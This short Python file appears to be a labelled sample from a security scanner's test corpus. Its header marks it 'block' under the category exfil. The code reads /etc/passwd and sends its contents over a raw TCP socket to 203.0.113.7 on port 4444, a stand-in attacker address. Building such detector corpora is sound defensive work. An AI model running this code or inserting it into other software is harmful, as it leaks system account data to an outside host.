# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: sends /etc/passwd over a raw TCP connection to an IP address
import socket

with open("/etc/passwd", "rb") as handle:
    data = handle.read()

with socket.create_connection(("203.0.113.7", 4444), timeout=5) as conn:
    conn.sendall(data)
